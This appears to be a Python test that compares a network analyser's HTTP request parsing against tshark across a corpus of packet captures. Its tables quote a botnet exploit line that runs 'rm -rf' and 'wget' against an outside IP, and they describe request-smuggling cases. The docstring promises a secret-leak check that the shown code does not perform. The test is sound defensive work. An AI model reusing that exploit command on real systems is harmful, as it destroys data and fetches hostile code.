#!/usr/bin/env python3
"""Corpus test: keywarden's EVE `http` records against tshark's oracle.

For every capture in tests/corpus that has an oracle (NAME.tshark.jsonl,
tshark 4.0.17 -2), run `keywarden run -r NAME` with embedded defaults and
compare the requests: (client, server, method, request target) as a
multiset per capture. Asserts, as issue 4 asks:

  * recall: at least 99 % of tshark's requests are found, over the corpus;
    every capture below 100 % must be listed in MISSES with the reason;
  * nothing invented, strictly: every request keywarden reports that
    tshark does not must be listed in EXTRA for its capture, with exactly
    that (method, target) multiset and the reason; where the reason is
    "tshark is blind here", VERIFIED_BY names the tshark variant oracle
    (out-of-order reassembly, decode-as) that must contain it. Likewise
    MISSES for requests tshark finds and keywarden does not, and
    SPACED_TARGET for targets with spaces that tshark cuts at the first SP.
    Entries that no longer match fail the test too;
  * status: where both matched a response, the status codes agree, except
    where listed in STATUS_DIFF.

Also asserts that no secret from the captures reaches the EVE output: the
raw Authorization header values tshark saw are never in keywarden's files
(checked through the Basic credentials, whose user:password we can decode
from the captures themselves).

Usage: corpus_oracle.py KEYWARDEN CORPUS_DIR [--report]
"""
import collections
import json
import os
import re
import subprocess
import sys
import tempfile
import urllib.parse

# Every entry below names the exact requests, as (method, target): count,
# and the test fails when the observed difference is not exactly that (so
# an entry can neither hide a new difference nor outlive a fix).

# Captures where keywarden finds fewer requests than tshark, and why.
MISSES = {
}

# Captures where keywarden reports requests tshark does not, and why.
# VERIFIED_BY names a tshark variant oracle (NAME.tshark-<v>.jsonl) that
# must contain every extra request: the claim "tshark is blind here" is
# then checked, not asserted.
EXTRA = {
    "arkime-http-tcp-seq-issue.pcap": (
        {("POST", "/xxxxxxxxx/xxxxxx/xxxxxxxxxxx/xxxxxxxxxx/xxx/xxxxxxxxx.xxx"
                  "?Command=FileUpload&Type=File&CurrentFolder=%2F"): 1},
        "the request's segments arrive out of order; tshark's default "
        "reassembly gives up on them, with out-of-order reassembly it finds "
        "the same POST (verified against the ooo oracle)"),
    "ndpi-http_on_sip_port.pcap": (
        {("GET", "/star-123456/index.m3u8?token=REDACTED"): 1},
        "HTTP from client port 5060: tshark dissects the segments as SIP "
        "('SIP 277 Continuation') and never tries HTTP; with -d "
        "tcp.port==5060,http it finds the same GET (verified against the "
        "decode-as oracle)"),
    "zeek-http-http-single-conn-22.pcap": (
        {("GET", "/"): 1},
        "HTTP to port 22: tshark gives the port to SSH; keywarden decides by "
        "content (verified against the decode-as oracle; Zeek logs it too)"),
    "zeek-tcp-http-with-padding.pcap": (
        {("GET", "/"): 1},
        "HTTP on port 27272 (frames carry Ethernet padding after the TCP "
        "payload): tshark does not try HTTP on that port; with decode-as "
        "(-d tcp.port==27272,http) it finds the same GET (verified against "
        "that oracle; Zeek logs it too)"),
    "zeek-http-query-method-non-standard-port.pcap": (
        {("QUERY", "/users"): 1},
        "method QUERY (draft-ietf-httpbis-safe-method-w-body) on port 4711: "
        "tshark does not know the method even with decode-as (its decode-as "
        "oracle has only the response, unmatched); Zeek logs QUERY /users "
        "with the 200; keywarden accepts any token method (RFC 9110 §9.1)"),
    "zeek-doc-vxlan-overlapping-http-get.pcap": (
        {("GET", "/download/CHANGES.bro-aux.txt"): 2},
        "every packet is there three times: inside VXLAN VNI 4711, inside "
        "VNI 4242, and bare (tshark -T fields -e vxlan.vni). tshark keys TCP "
        "streams by the inner addresses only and sees one connection with "
        "retransmissions; keywarden keys flows by tunnel id too (by design: "
        "VNIs separate tenants whose address spaces may overlap, which is "
        "what this Zeek example shows) and reports the GET once per flow, "
        "each record naming its tunnel"),
    "zeek-http-261-variant-09-te_obs_fold.pcap": (
        {("GET", "/smuggled-obsfold"): 1},
        "request smuggling: 'Transfer-Encoding:' CRLF SP 'chunked' is an "
        "obs-fold; a server that unfolds it (RFC 9112 §5.2 allows that or a "
        "400) reads a chunked body '0' CRLF CRLF and then this GET as a "
        "second request. tshark does not unfold and loses the GET; Zeek logs "
        "both; keywarden frames it like an unfolding server and flags the "
        "POST parse_error"),
    "sv-http-multiple-cl-input.pcap": (
        {("POST", "/evil.php"): 1},
        "request smuggling: Content-Length 11 and 93 on one request (RFC "
        "9112 §6.3 rule 5: unrecoverable). With the last value (tshark) the "
        "body ends before POST /bad.php; with the first, POST /evil.php is "
        "the next request and /bad.php is inside its body. keywarden flags "
        "the first request parse_error and reports every request line inside "
        "the largest claimed body (evil and bad), since some server acts on "
        "each; tshark reports only its reading's /bad.php"),
}

VERIFIED_BY = {
    "arkime-http-tcp-seq-issue.pcap": "ooo",
    "ndpi-http_on_sip_port.pcap": "decodeas",
    "zeek-http-http-single-conn-22.pcap": "decodeas",
    "zeek-tcp-http-with-padding.pcap": "decodeas",
}

# Captures where a request target contains spaces ("GET /a b HTTP/1.1"):
# tshark (and Arkime) cut the target at the first SP; keywarden keeps it
# up to the last SP before the version, as nginx reads it (a policy judging
# only "/a" could be walked around with "/a /../admin"), flagged
# parse_error. Such a request counts as found when tshark's target is
# keywarden's up to the first SP; the test fails if that happens anywhere
# not listed here.
SPACED_TARGET = {
    "arkime-gre-erspan-vxlan.pcap": "GET /Hello Arkime HTTP/1.0 (Arkime's expected output "
                                    "also has uri /Hello)",
    "sv-bug-5437-01-input.pcap": "GET /shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/... "
                                 "HTTP/1.1, a botnet exploit whose payload is after the SP",
}

# Captures where a matched transaction's status differs, and why.
# Captures where a response tshark paired with a request is not paired with
# it (or with another status) by keywarden: (number of such requests,
# reason). Exact counts, so a change either way fails.
STATUS_DIFF = {
    "sv-http1-noint-status-input.pcap": (
        1, "the status line is 'HTTP/1.0 2XX OK': not a status code (three digits, RFC 9110 "
           "§15; RFC 9112 §4); tshark reads status 2 (the leading digit); keywarden reports "
           "the response (length 4, framed by its Content-Length) with no status field, "
           "flagged parse_error: the code is unknown, and 2 is not a status either"),
}


def addr_port(s):
    """'1.2.3.4:80' or '[2001::1]:80' -> ('1.2.3.4', 80)."""
    if s.startswith("["):
        host, _, port = s[1:].rpartition("]:")
    else:
        host, _, port = s.rpartition(":")
    return host, int(port)


# keywarden redacts the value of query parameters that may hold a secret
# (docs/credentials.md: configured query sources and the default list,
# names compared case-insensitively after percent-decoding); tshark shows
# the target as sent. The oracle's targets are redacted the same way so
# the two compare. Kept in step with redact_default in cred.c.
REDACTED_NAMES = {
    "token", "access_token", "refresh_token", "id_token", "auth_token", "client_secret",
    "code", "code_verifier", "assertion", "client_assertion", "jwt",
    "password", "passwd", "pass", "pwd",
    "api_key", "apikey", "api-key", "key", "secret", "private_token", "session", "sessionid",
    "signature", "sig", "x-amz-signature", "x-amz-credential", "x-amz-security-token",
    "x-goog-signature", "x-goog-credential"}


def redact(uri):
    q = uri.find("?")
    if q < 0:
        return uri
    frag = uri.find("#", q)
    query, rest = (uri[q + 1:frag], uri[frag:]) if frag >= 0 else (uri[q + 1:], "")
    out = []
    for part in re.split(r"([&;])", query):
        if part in ("&", ";"):
            out.append(part)
            continue
        name, eq, value = part.partition("=")
        plain = urllib.parse.unquote_plus(name)
        if eq and value and plain.lower() in REDACTED_NAMES:
            part = name + "=REDACTED"
        out.append(part)
    return uri[:q + 1] + "".join(out) + rest


def load_oracle(path):
    reqs = []
    with open(path) as f:
        for line in f:
            o = json.loads(line)
            if o.get("type") != "request":
                continue
            c, s = addr_port(o["src"]), addr_port(o["dst"])
            status = None
            if o.get("response") and o["response"].get("status"):
                status = int(o["response"]["status"])
            reqs.append(((c, s, o["method"], redact(o["uri"])), status))
    return reqs


def run_keywarden(kw, pcap, work):
    eve = os.path.join(work, "eve.json")
    db = os.path.join(work, "kw.db")
    for p in (eve, db, db + "-wal", db + "-shm"):
        if os.path.exists(p):
            os.unlink(p)
    r = subprocess.run([kw, "run", "-q", "-r", pcap, "--eve", eve, "--db", db],
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=120)
    if r.returncode != 0:
        raise RuntimeError("keywarden failed on %s (%d): %s" %
                           (pcap, r.returncode, r.stderr.decode(errors="replace")))
    reqs = []
    with open(eve, "rb") as f:
        raw = f.read()
    for line in raw.decode().splitlines():
        o = json.loads(line)
        if o.get("event_type") != "http":
            continue
        h = o["http"]
        if "http_method" not in h:  # response without request
            continue
        c = (o["src_ip"], o["src_port"])
        s = (o["dest_ip"], o["dest_port"])
        reqs.append(((c, s, h["http_method"], h.get("url", "")), h.get("status")))
    return reqs, raw


def compare(kw_reqs, or_reqs):
    have = collections.Counter(k for k, _ in kw_reqs)
    want = collections.Counter(k for k, _ in or_reqs)
    found = sum((have & want).values())
    missing = want - have
    extra = have - want
    # a target with spaces, cut at the first SP by tshark (see SPACED_TARGET)
    spaced = 0
    for k in list(extra):
        c, sv, m, url = k
        if " " not in url:
            continue
        cut = (c, sv, m, url.split(" ")[0])
        while extra[k] and missing[cut]:
            extra[k] -= 1
            missing[cut] -= 1
            found += 1
            spaced += 1
    missing, extra = +missing, +extra
    # Statuses compared per request key as multisets: records come out in
    # completion order (a request whose response was lost is reported
    # last), and one key may repeat (1000 x "GET /").
    st_kw = collections.defaultdict(collections.Counter)
    st_or = collections.defaultdict(collections.Counter)
    for k, st in kw_reqs:
        st_kw[k][st] += 1
    for k, st in or_reqs:
        if k in have:
            st_or[k][st] += 1
    st_diff = []
    for k, want_st in st_or.items():
        got_st = st_kw[k]
        # a status tshark paired must be in keywarden's record too; None
        # means keywarden has the request without its response (loss must
        # not cost matching, issue 4)
        for st, n in want_st.items():
            if st is not None and got_st[st] < n:
                st_diff.append((k, st, sorted((got_st - want_st).elements(), key=str)[:1]))
    return found, missing, extra, st_diff, spaced


def by_request(counter):
    """(client, server, method, target) counts -> (method, target) counts."""
    out = collections.Counter()
    for (c, s, m, u), n in counter.items():
        out[(m, u)] += n
    return dict(out)


def check_listed(name, kind, table, diff, failures):
    got = by_request(diff)
    if name not in table:
        if got:
            failures.append("%s: %d requests %s, not listed: %s" %
                            (name, sum(got.values()), kind, list(got.items())[:2]))
        return
    want = table[name][0]
    if got != want:
        failures.append("%s: %s differs from the listed entry: got %s, listed %s" %
                        (name, kind, got, want))


def check_variant(name, corpus, extra, failures):
    v = VERIFIED_BY.get(name)
    if not v:
        return
    path = os.path.join(corpus, "oracle", "%s.tshark-%s.jsonl" % (name, v))
    if not os.path.exists(path):
        failures.append("%s: variant oracle %s missing" % (name, path))
        return
    variant = collections.Counter(k for k, _ in load_oracle(path))
    unverified = extra - variant
    if unverified:
        failures.append("%s: extra requests not in the %s oracle: %s" %
                        (name, v, list(unverified)[:2]))


def main():
    kw, corpus = sys.argv[1], sys.argv[2]
    report = "--report" in sys.argv
    oracle_dir = os.path.join(corpus, "oracle")
    total_want = total_found = 0
    failures = []
    work = tempfile.mkdtemp(prefix="kw-oracle-")
    seen = set()
    for name in sorted(os.listdir(corpus)):
        if not (name.endswith(".pcap") or name.endswith(".pcapng")):
            continue
        opath = os.path.join(oracle_dir, name + ".tshark.jsonl")
        if not os.path.exists(opath):
            continue
        or_reqs = load_oracle(opath)
        kw_reqs, raw = run_keywarden(kw, os.path.join(corpus, name), work)
        found, missing, extra, st_diff, spaced = compare(kw_reqs, or_reqs)
        total_want += len(or_reqs)
        total_found += found
        n_miss, n_extra = sum(missing.values()), sum(extra.values())
        if report and (n_miss or n_extra or st_diff or spaced):
            print("%s: tshark %d, keywarden %d, found %d (%d with a spaced target), missing %d, "
                  "extra %d, status diff %d" % (name, len(or_reqs), len(kw_reqs), found, spaced,
                                                n_miss, n_extra, len(st_diff)))
            for k in list(missing)[:3]:
                print("   missing", k)
            for k in list(extra)[:3]:
                print("   extra  ", k)
            for d in st_diff[:3]:
                print("   status ", d)
        check_listed(name, "missing", MISSES, missing, failures)
        check_listed(name, "extra", EXTRA, extra, failures)
        check_variant(name, corpus, extra, failures)
        if bool(spaced) != (name in SPACED_TARGET):
            failures.append("%s: %d spaced-target matches, listed: %s" %
                            (name, spaced, name in SPACED_TARGET))
        listed = STATUS_DIFF.get(name, (0, ""))[0]
        if len(st_diff) != listed:
            failures.append("%s: %d requests whose tshark-paired response differs (listed %d): %s"
                            % (name, len(st_diff), listed, st_diff[:2]))
        seen.add(name)
    for table, tname in ((MISSES, "MISSES"), (EXTRA, "EXTRA"), (SPACED_TARGET, "SPACED_TARGET"),
                         (STATUS_DIFF, "STATUS_DIFF")):
        for name in table:
            if name not in seen:
                failures.append("%s lists %s, which has no oracle in the corpus" % (tname, name))
    recall = 100.0 * total_found / max(total_want, 1)
    print("corpus: %d of %d tshark requests found (%.2f %%)" % (total_found, total_want, recall))
    if recall < 99.0:
        failures.append("recall %.2f %% is below 99 %%" % recall)
    for f in failures:
        print("FAIL:", f)
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
